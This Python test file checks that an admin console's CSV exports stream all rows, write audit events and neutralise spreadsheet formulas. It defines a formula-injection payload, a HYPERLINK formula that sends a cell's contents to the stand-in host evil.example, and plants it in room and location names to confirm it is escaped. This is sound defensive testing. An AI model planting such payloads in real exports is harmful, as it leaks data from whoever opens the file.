"""Console CSV exports deliver every row, formula-safe, and audit what was written (issue 11).

The export is requested the way a server runs it: in a thread of its own, with no application
context left open by the test, so the rows are streamed after the view has returned.
"""

from __future__ import annotations

import csv
import io
import threading

import pytest
import sqlalchemy as sa

from opsadmin.audit.models import AuditEvent
from opsadmin.console import SecureModelView
from opsadmin.extensions import db
from tests.factories import (
    AppointmentFactory,
    LocationFactory,
    ReferralFactory,
    RegionFactory,
    RoomFactory,
    UserFactory,
    licensed_clinician,
)

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&B2,"open")'


def request_in_own_thread(client, url: str):
    """GET ``url`` and read the whole body in a thread without the test's app context."""
    answer = {}

    def run() -> None:
        response = client.get(url)
        answer["status"] = response.status_code
        answer["text"] = response.get_data(as_text=True)

    thread = threading.Thread(target=run)
    thread.start()
    thread.join(30)
    return answer["status"], answer["text"]


def exportable_views(app) -> list[SecureModelView]:
    views = app.extensions["opsadmin_admin"]._views
    return [v for v in views if isinstance(v, SecureModelView) and v.can_export]


@pytest.fixture
def chain(session):
    region = RegionFactory(code="IN")
    site = LocationFactory(code="GRN", region=region, name=HOSTILE_NAME)
    room = RoomFactory(location=site, name=HOSTILE_NAME)
    staff = licensed_clinician([site])
    ReferralFactory(consult_location=site)
    AppointmentFactory(room=room, staff=staff)
    session.commit()
    return site


def test_every_console_export_streams_all_its_rows_and_audits_them(app, client, auth, chain):
    admin = UserFactory(role="admin")
    db.session.commit()
    auth.login(admin)
    views = exportable_views(app)
    assert len(views) >= 10
    for view in views:
        with app.test_request_context():
            url = view.get_url(f"{view.endpoint}.export", export_type="csv")
        expected = db.session.scalar(sa.select(sa.func.count()).select_from(view.model))
        status, text = request_in_own_thread(client, url)
        assert status == 200, (view.name, status)
        rows = list(csv.reader(io.StringIO(text)))
        assert len(rows) == 1 + expected, (view.name, text[:300])
        db.session.rollback()  # read what the request committed
        event = db.session.scalars(
            sa.select(AuditEvent)
            .where(AuditEvent.action == "export", AuditEvent.entity == view.model.__name__)
            .order_by(AuditEvent.id.desc())
        ).first()
        assert event is not None, view.name
        assert event.actor_id == admin.id and event.changes["rows"] == expected, view.name


def test_export_neutralises_formulas_in_related_names(app, client, auth, chain):
    auth.login(UserFactory(role="admin"))
    status, text = request_in_own_thread(client, "/admin/rooms/export/csv/")
    assert status == 200
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + HOSTILE_NAME in cells
    assert HOSTILE_NAME not in cells
